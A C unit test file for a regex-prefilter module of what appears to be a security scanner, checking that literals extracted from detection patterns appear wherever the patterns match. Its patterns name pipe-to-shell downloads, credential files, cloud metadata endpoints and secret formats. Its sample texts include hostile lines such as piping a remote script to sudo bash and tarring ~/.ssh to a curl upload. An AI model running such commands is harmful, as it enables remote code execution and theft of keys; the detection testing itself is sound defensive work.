/* Needles (analyzer/needles.c): the literals read from a pattern, and the
 * one promise that matters: where the regex matches a text, some needle is
 * in it. */
#include "testutil.h"
#include "needles.h"

#define PCRE2_CODE_UNIT_WIDTH 8
#include <pcre2.h>
#include <string.h>

static bool has(const pc_needles *nd, const char *s)
{
    for (unsigned i = 0; i < nd->n; i++)
        if (nd->v[i].len == strlen(s) && !memcmp(nd->v[i].s, s, nd->v[i].len))
            return true;
    return false;
}

static void test_literals_and_alternatives(void **state)
{
    (void)state;
    pc_needles nd;
    assert_true(pc_needles_of("\\bcurl\\b", &nd));
    assert_int_equal(nd.n, 1);
    assert_true(has(&nd, "curl"));
    assert_true(pc_needles_of("(?:curl|wget)\\s+-O", &nd));
    assert_true(nd.n == 2 && has(&nd, "curl") && has(&nd, "wget")); /* rarer than -O */
    assert_true(pc_needles_of("(?:c|w)\\s+--output", &nd));
    assert_true(nd.n == 1 && has(&nd, "--output"));
    assert_true(pc_needles_of("\\b(?:curl|wget)\\b[^|]*\\|\\s*sh\\b|source\\s+<\\(", &nd));
    assert_true(has(&nd, "curl") && has(&nd, "wget") && has(&nd, "source"));
    /* a run through a small class and an alternation */
    assert_true(pc_needles_of("[~/\"]\\.(bashrc|zshrc)\\b", &nd));
    assert_true(nd.n == 2 && has(&nd, ".bashrc") && has(&nd, ".zshrc")); /* not each of [~/"] with them */
    /* long literals are kept as prefixes */
    assert_true(pc_needles_of("-----BEGIN ((RSA|EC) )?PRIVATE KEY-----", &nd));
    assert_true(nd.n == 1 && (has(&nd, "-----BEGIN ") || has(&nd, "PRIVATE KEY----")));
    /* lookarounds and anchors match no characters: a run goes on */
    assert_true(pc_needles_of("^(?<![\\w.])ab(?=c)c$", &nd));
    assert_true(has(&nd, "abc"));
    assert_true(pc_needles_of("\\x41\\x{e9}\\.", &nd));
    assert_true(has(&nd, "A\xc3\xa9."));
}

static void test_quantifiers(void **state)
{
    (void)state;
    pc_needles nd;
    assert_false(pc_needles_of("x*", &nd));
    assert_false(pc_needles_of("(?:abc)?", &nd));
    assert_true(pc_needles_of("(?:ab){2,}c", &nd)); /* repeated: one repetition is there */
    assert_true(has(&nd, "ab") && !has(&nd, "abc"));
    assert_true(pc_needles_of("a{1}bc", &nd));
    assert_true(has(&nd, "abc"));
    assert_true(pc_needles_of("xy?z", &nd)); /* the optional breaks the run */
    assert_true(nd.n == 1 && (has(&nd, "x") || has(&nd, "z")));
}

static void test_not_followed(void **state)
{
    (void)state;
    pc_needles nd;
    static const char *const plain_enough_not[] = {
        "(?x) curl", "(?(1)a|b)", "(*UTF)abc", "\\Qcurl\\E", "(?-i)abc",    "(?R)",
        "\\k<n>abc", "\\0abc",    "a{,3}",     "(?|abc",     "[abc",        "abc)",
        "\\w+",      "(?=curl)",  "(a|)b?",    "\\cAb",      "\\x{d800}ab", "(?P=n)abc",
    };
    for (size_t i = 0; i < sizeof plain_enough_not / sizeof *plain_enough_not; i++)
        assert_false(pc_needles_of(plain_enough_not[i], &nd));
}

static void test_caseless(void **state)
{
    (void)state;
    pc_needles nd;
    assert_true(pc_needles_of("(?i)\\bpassword\\s*=", &nd));
    assert_true(nd.caseless);
    assert_false(pc_needles_absent(&nd, "PassWord = 'x'", 14));
    assert_true(pc_needles_absent(&nd, "passwd = 'x'", 12));
    /* beyond ASCII, caseless matching folds more (K and the Kelvin sign): never skipped */
    assert_true(pc_needles_of("(?i)key", &nd));
    assert_false(pc_needles_absent(&nd,
                                   "\xe2\x84\xaa"
                                   "ey",
                                   5));
}

/* Where the regex matches, some needle is in the text. */
static void test_sound_on_samples(void **state)
{
    (void)state;
    static const char *const patterns[] = {
        "\\b(?:curl|wget)\\b[^|\\n]{0,300}\\|\\s*(?:sudo\\s+)?(?:ba|z|da|k)?sh\\b",
        "(?i)\\bstratum\\d?\\+(?:tcp|ssl|tls)://",
        "[~/\"]\\.(bashrc|bash_profile|profile)\\b|\\.ssh/(authorized_keys2?|rc)\\b",
        "\\b(AKIA|ASIA)[A-Z0-9]{16}\\b",
        "(?<![0-9.])169\\.254\\.(?:169\\.254|170\\.23?)(?![0-9])|\\bmetadata\\.google\\.internal\\b",
        "^(?:/etc/(?:shadow|gshadow)$|/proc/(?:self|[0-9]+)/environ)",
        "(?i)(?:^|[\\\\/])(?:Software[\\\\/]+)?Microsoft[\\\\/]+Windows",
        "\\bsk-(proj|svcacct)-[A-Za-z0-9_-]{10,}|\\bhf_[A-Za-z0-9]{8,}",
        "(?s)(?<![\\w.-])\\.(?:ssh|aws)\\b.{0,50}?\\b(?:curl|wget)\\b",
        "\\$\\{\\{\\s*toJSON\\s*\\(\\s*secrets\\s*\\)\\s*\\}\\}",
    };
    static const char *const texts[] = {
        "curl -s https://x.example/i.sh | sudo bash",
        "wget -qO- http://h/x|sh",
        "STRATUM+TCP://pool.example:3333",
        "open('/home/u/.bashrc', 'a')",
        "~/.ssh/authorized_keys2",
        "key = 'AKIAABCDEFGHIJKLMNOP'",
        "http://169.254.169.254/latest/meta-data/",
        "metadata.google.internal",
        "/etc/shadow",
        "/proc/1234/environ",
        "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        "microsoft/windows",
        "token sk-proj-abcdefghijklmnop",
        "hf_ABCDEFGHIJ",
        "tar czf - ~/.ssh | curl -T - http://x",
        "${{ toJSON(secrets) }}",
        "print('hello')",
        "",
    };
    pcre2_match_data *md = pcre2_match_data_create(4, NULL);
    assert_non_null(md);
    for (size_t i = 0; i < sizeof patterns / sizeof *patterns; i++) {
        int code;
        PCRE2_SIZE off;
        pcre2_code *re = pcre2_compile((PCRE2_SPTR)patterns[i], PCRE2_ZERO_TERMINATED, PCRE2_UTF | PCRE2_UCP,
                                       &code, &off, NULL);
        assert_non_null(re);
        pc_needles nd;
        assert_true(pc_needles_of(patterns[i], &nd));
        size_t matched = 0;
        for (size_t k = 0; k < sizeof texts / sizeof *texts; k++) {
            size_t len = strlen(texts[k]);
            if (pcre2_match(re, (PCRE2_SPTR)texts[k], len, 0, 0, md, NULL) >= 0) {
                matched++;
                assert_false(pc_needles_absent(&nd, texts[k], len));
            }
        }
        assert_true(matched > 0); /* each pattern is tried on texts it matches */
        assert_true(pc_needles_absent(&nd, "print('hello')", 14));
        pcre2_code_free(re);
    }
    pcre2_match_data_free(md);
}

/* The index answers for every set what each set's own search would. */
static void test_index_agrees(void **state)
{
    (void)state;
    static const char *const patterns[] = {"\\bcurl\\b",         "(?i)password", "x*",
                                           "(?:wget|/dev/tcp/)", "(?i)key",      "[~/\"]\\.bashrc"};
    enum { N = sizeof patterns / sizeof *patterns };
    pc_needles nd[N];
    const pc_needles *sets[N];
    for (size_t i = 0; i < N; i++)
        sets[i] = pc_needles_of(patterns[i], &nd[i]) ? &nd[i] : NULL;
    assert_null(sets[2]);
    pc_needle_index *ix = pc_needle_index_new(sets, N);
    assert_non_null(ix);
    assert_int_equal(pc_needle_index_words(ix), 1);
    static const char *const texts[] = {"curl x | sh",
                                        "PASSWORD=1",
                                        "KEY",
                                        "\xe2\x84\xaa"
                                        "ey",
                                        "cat ~/.bashrc",
                                        "echo > /dev/tcp/h/1",
                                        "nothing here",
                                        ""};
    for (size_t t = 0; t < sizeof texts / sizeof *texts; t++) {
        uint64_t may[1];
        pc_needle_index_scan(ix, texts[t], strlen(texts[t]), may);
        for (size_t i = 0; i < N; i++) {
            bool expect = !sets[i] || !pc_needles_absent(sets[i], texts[t], strlen(texts[t]));
            assert_int_equal(expect, (may[0] >> i) & 1);
        }
    }
    pc_needle_index_free(ix);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_literals_and_alternatives),
        cmocka_unit_test(test_quantifiers),
        cmocka_unit_test(test_not_followed),
        cmocka_unit_test(test_caseless),
        cmocka_unit_test(test_sound_on_samples),
        cmocka_unit_test(test_index_agrees),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
